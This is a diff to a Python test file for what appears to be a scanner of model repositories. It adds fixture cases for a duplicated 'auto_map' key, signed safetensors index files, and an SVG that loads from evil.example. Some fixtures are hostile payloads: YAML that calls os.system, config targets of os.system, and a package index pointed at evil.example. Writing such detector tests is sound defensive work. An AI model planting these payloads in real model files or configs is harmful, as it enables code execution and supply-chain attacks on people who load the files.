@@ -74,6 +74,10 @@ CODE = {
     "adapter_config.json": (json.dumps({"auto_mapping": {"parent_library": "os"}}).encode(), "import os"),
     "hydra.yaml": (b"model: {_target_: os.system}\n", "_target_"),
     ".vscode/tasks.json": (b"{}", "tools go by it"),
+    "twice/config.json": (b'{"auto_map": {"A": "evil/x--m.X"}, "auto_map": null}', "stands twice"),
+    "flow.yaml": (b'{"a":!!python/object/apply:os.system ["id"]}', "call as they read it"),
+    "ldm.yaml": (b"model:\n  target: os.system\n", "call as they read it"),
+    "fetching.svg": (b"<svg><image href='http://evil.example/x'/></svg>", "a picture with code"),
     "requirements.txt": (b"--index-url https://evil.example\n", "tools go by it"),
     "sub/config.json": (json.dumps({"configuration_files": ["../config.4.0.0.json"]}).encode(), "in place of config"),
     "deep/tokenizer_config.json": (json.dumps({"fast_tokenizer_files": ["tokenizer.4.0.0.json"]}).encode(), "4.0.0"),
@@ -109,6 +113,13 @@ def cases() -> Iterator[Case]:
         index = json.dumps({"weight_map": {"layer": place}}).encode()
         name = "model.safetensors.index.json"
         yield Case(f"signed: tensors from {place}", signed({name: index}), 0, name, ("takes tensors from",))
+    for what, places, code in (
+        ("another tensor", {"layer2": "model.safetensors"}, 1), ("no tensor", {}, 3), ("a list", ["layer"], 1),
+        ("a file that is not there", {"layer": "model.safetensors", "a": "x.safetensors"}, 3),
+    ):  # fmt: skip
+        name = "model.safetensors.index.json"
+        change = signed({name: json.dumps({"weight_map": places}).encode()})
+        yield Case(f"signed: an index of {what}", change, 5, f"weights <- {name}", (name,), code)
     for name, data in STRAY.items():
         yield Case(f"signed: stray weights {name}", signed({name: data}), 5, "weights <- checkpoints")
     for name, data in OTHER_WEIGHTS.items():
